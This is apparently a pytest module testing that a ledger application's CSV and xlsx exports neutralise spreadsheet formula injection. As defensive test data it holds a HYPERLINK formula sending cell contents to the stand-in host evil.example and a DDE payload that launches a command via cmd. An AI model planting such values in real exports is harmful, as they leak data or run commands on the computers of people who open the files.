"""No export runs as a spreadsheet formula: a target, plan or department name starting with = + - @ is written
to CSV with a leading apostrophe and to xlsx as quote-prefixed text — the ledger export (csv, xlsx), the Excel
台账 and the records of `extract` alike; numbers stay numbers and JSON keeps the text as it is.
"""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import shutil
from collections.abc import Callable
from pathlib import Path

import pytest
from openpyxl import load_workbook

from greentrack.ledger.safe_cells import csv_cell
from greentrack.ledger.schema import DepartmentRow, TargetRow
from greentrack.pipeline.steps import extract_plan
from greentrack.reports.export import render
from greentrack.reports.records import write_records
from greentrack.services.documents import sample_paths
from greentrack.services.ledger import open_ledger
from greentrack.services.reports import export_bytes
from greentrack.services.status import ledger_status

EVIL_INDICATOR = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
EVIL_DEPARTMENT = "@SUM(1+1)*cmd|' /C calc'!A0"
TARGET = 13


@pytest.fixture(scope="module")
def poisoned(copy_demo_ledger: Callable[[Path], Path], tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The demo ledger with a target's indicator and a department's name written as formulas."""
    path = copy_demo_ledger(tmp_path_factory.mktemp("formula"))
    ledger = open_ledger(db=path)
    try:
        with ledger.session("test") as session:
            session.get(TargetRow, TARGET).indicator = EVIL_INDICATOR
            session.get(DepartmentRow, 3).name = EVIL_DEPARTMENT  # 金乡县住建局, responsible for target 13
    finally:
        ledger.close()
    return path


def test_the_neutraliser_marks_only_text_a_spreadsheet_would_run() -> None:
    assert [csv_cell(v) for v in ("=1+1", "+1", "-1", "@A1", "\tx", "\rx")] == [
        "'=1+1", "'+1", "'-1", "'@A1", "'\tx", "'\rx"]
    assert [csv_cell(v) for v in ("绿地率", "1=1", -1.5, 0, None)] == ["绿地率", "1=1", -1.5, 0, None]


def test_the_ledger_csv_export_writes_formulas_as_text(poisoned: Path) -> None:
    ledger = open_ledger(db=poisoned)
    try:
        data = export_bytes(ledger, "csv")
        report = ledger_status(ledger)
    finally:
        ledger.close()
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    header, body = rows[0], rows[1:]
    row = next(r for r in body if r[0] == str(TARGET))
    assert row[header.index("指标 indicator")] == "'" + EVIL_INDICATOR
    assert row[header.index("责任部门 departments")].startswith("'@SUM")
    assert not [cell for r in body for cell in r if cell[:1] in ("=", "+", "@")]
    assert any(r.record.id == TARGET for r in report.rows)


def test_the_xlsx_exports_hold_no_formula(poisoned: Path, tmp_path: Path) -> None:
    ledger = open_ledger(db=poisoned)
    try:
        workbooks = {"台账 (reports/xlsx)": export_bytes(ledger, "xlsx"),
                     "ledger/export xlsx": render(ledger_status(ledger), "xlsx")}
    finally:
        ledger.close()
    for name, data in workbooks.items():
        book = load_workbook(io.BytesIO(data))
        cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
        assert [c.coordinate for c in cells if c.data_type == "f"] == [], name
        assert any(c.value == EVIL_INDICATOR and c.data_type == "s" for c in cells), name
        assert any(isinstance(c.value, str) and c.value.startswith("@SUM") and c.quotePrefix for c in cells), name


def test_json_keeps_the_text_as_written(poisoned: Path) -> None:
    ledger = open_ledger(db=poisoned)
    try:
        data = json.loads(export_bytes(ledger, "json"))
    finally:
        ledger.close()
    target = next(t for t in data["targets"] if t["id"] == TARGET)
    assert target["indicator"] == EVIL_INDICATOR and EVIL_DEPARTMENT in target["departments"]


def test_extracted_records_as_csv_and_xlsx_hold_no_formula(tmp_path: Path) -> None:
    plan = tmp_path / "plan.txt"
    shutil.copy(sample_paths()[0], plan)
    first, *rest = extract_plan(plan).targets
    poisoned = [dataclasses.replace(first, indicator=EVIL_INDICATOR), *rest]
    stream = io.StringIO()
    write_records(poisoned, "csv", None, stream)
    first = next(csv.DictReader(io.StringIO(stream.getvalue())))
    assert first["indicator"] == "'" + EVIL_INDICATOR
    write_records(poisoned, "xlsx", tmp_path / "records.xlsx", io.StringIO())
    sheet = load_workbook(tmp_path / "records.xlsx").active
    cells = [c for row in sheet.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert any(c.value == EVIL_INDICATOR for c in cells)
